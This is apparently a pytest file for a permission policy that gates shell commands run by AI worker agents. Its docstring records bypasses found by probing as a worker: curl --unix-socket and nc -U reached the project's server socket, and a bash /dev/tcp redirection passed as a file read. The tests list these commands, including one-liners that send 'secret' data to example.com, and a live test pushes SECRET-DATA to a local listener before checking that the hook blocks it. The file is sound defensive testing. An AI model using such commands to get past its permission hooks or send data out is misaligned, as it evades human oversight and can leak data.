"""Connecting to a Unix socket is a write of its path.

Found probing as a worker: ``curl --unix-socket ../../.exomonad/server.sock`` and ``nc -U``
reached the project's server and were asked as "network access to <unknown host>",
while ``socat - UNIX-CONNECT:`` to the same socket was refused as a write into
``.exomonad/``. Each client that names a socket now writes that path: the state dir is
refused, any other socket outside the worktree is asked with its path named.

A redirection to bash's ``/dev/tcp/HOST/PORT`` (or ``/dev/udp``) is network access to
HOST whichever way it points: ``cat </dev/tcp/HOST/80`` was allowed as a read of a file,
and a socket opened with ``<`` writes as well as it reads.
"""

from __future__ import annotations

import socket
import subprocess

import pytest

from exomonad.policy.actions import Network, WriteFile
from exomonad.policy.decisions import Deny, Escalate
from exomonad.policy.shell_lex import Word
from exomonad.policy.shell_tools import handle
from tests.policy.test_state_tree_live import Live
from tests.policy.worker import ROOT, WT, bash

SOCKET = f"{ROOT}/.exomonad/server.sock"

TO_THE_SERVER = [
    "curl --unix-socket ../../.exomonad/server.sock http://x/",
    f"curl -s --unix-socket {SOCKET} http://localhost/api/status",
    "curl --unix-sock=../../.exomonad/server.sock http://x/",  # a long option's prefix
    f"curl --url http://x/ --unix-socket {SOCKET}",
    "nc -U ../../.exomonad/server.sock",
    f"nc -NU {SOCKET}",
    f"ncat --unixsock {SOCKET}",
    f"echo x | nc -U {SOCKET}",
    "xh --unix-socket ../../.exomonad/server.sock :/health",
]


@pytest.mark.parametrize("command", TO_THE_SERVER)
def test_a_client_of_the_servers_socket_is_refused(command: str) -> None:
    verdict = bash(command)
    assert isinstance(verdict, Deny), verdict
    assert SOCKET in verdict.reason


@pytest.mark.parametrize(
    ("command", "named"),
    [("curl --unix-socket /var/run/docker.sock http://localhost/v1/containers/json",
      "/var/run/docker.sock"),
     ("nc -U /tmp/agent.sock", "/tmp/agent.sock"),
     ("curl --unix-socket $SOCK http://x/", "<unknown path>")],
)  # fmt: skip
def test_another_socket_outside_the_worktree_is_asked_by_its_path(command: str, named: str) -> None:
    verdict = bash(command)
    assert isinstance(verdict, Escalate), verdict
    assert f"write {named}" in verdict.reason


def test_the_socket_is_a_write_beside_the_network() -> None:
    words = [Word(t) for t in ["--unix-socket", "s.sock", "http://localhost/x"]]
    assert handle("curl", words, WT) == [WriteFile(f"{WT}/s.sock"), Network("localhost")]
    assert handle("nc", [Word("-U"), Word("s.sock")], WT) == [WriteFile(f"{WT}/s.sock"),
                                                               Network(None)]  # fmt: skip
    # Without -U the first word is a host, as before; wget has no socket option.
    assert handle("nc", [Word("s.sock"), Word("80")], WT) == [Network("s.sock")]
    assert handle("curl", [Word("--abstract-unix-socket"), Word("a"), Word("http://h/")],
                  WT) == [Network("h")]  # fmt: skip


def test_a_worker_cannot_reach_the_server_through_its_socket(live: Live) -> None:
    """The real effect first: from the worktree, nc reaches the server's socket and the
    server answers. Then the same command through the hook client is refused."""
    token, worktree = live.spawn_worker()
    command = "printf 'GET / HTTP/1.0\\r\\n\\r\\n' | nc -NU ../../.exomonad/server.sock"
    reached = subprocess.run(["bash", "-c", command], cwd=worktree, capture_output=True,
                             text=True, timeout=30, check=False)  # fmt: skip
    assert reached.stdout.startswith("HTTP/1."), (reached.stdout, reached.stderr)
    for attempt in (command, "curl --unix-socket ../../.exomonad/server.sock http://x/"):
        answer = live.hook(attempt, token=token, cwd=worktree)
        assert answer["permissionDecision"] == "deny", (attempt, answer)
        assert "server.sock" in answer["permissionDecisionReason"]


BASH_SOCKETS = [
    ("cat </dev/tcp/example.com/80", "example.com"),
    ("exec 3</dev/tcp/Example.com/80; echo secret >&3", "example.com"),  # "<" sends too
    ("cat </dev/udp/example.com/53", "example.com"),
    ("echo hi >/dev/tcp/example.com/80", "example.com"),
    ("exec 3<>/dev/tcp/example.com/80", "example.com"),
    ("cat 0</dev/tcp/127.0.0.1/8765", "127.0.0.1"),
    ("cat </dev/tcp/$H/80", "<unknown host>"),
]


@pytest.mark.parametrize(("command", "host"), BASH_SOCKETS)
def test_a_redirection_to_bashs_dev_tcp_is_network_access(command: str, host: str) -> None:
    """Found probing: ``cat </dev/tcp/HOST/80`` was allowed as a read of a file."""
    verdict = bash(command)
    assert isinstance(verdict, Escalate), verdict
    assert f"network access to {host}" in verdict.reason


def test_a_worker_cannot_send_data_through_dev_tcp_unasked(live: Live) -> None:
    """The real effect first: from the worktree, a socket bash opened "for reading"
    carries data out to a listener. Then the hook client does not allow it."""
    token, worktree = live.spawn_worker()
    with socket.create_server(("127.0.0.1", 0)) as server:
        server.settimeout(30)
        command = (f"exec 3</dev/tcp/127.0.0.1/{server.getsockname()[1]}; "
                   "echo SECRET-DATA >&3")  # fmt: skip
        sent = subprocess.run(["bash", "-c", command], cwd=worktree, capture_output=True,
                              text=True, timeout=30, check=False)  # fmt: skip
        assert sent.returncode == 0, sent.stderr
        peer, _ = server.accept()
        with peer:
            peer.settimeout(30)
            assert peer.recv(100) == b"SECRET-DATA\n"
        answer = live.hook(command, token=token, cwd=worktree)
    assert answer["permissionDecision"] != "allow", answer
    assert "network access to 127.0.0.1" in answer["permissionDecisionReason"]
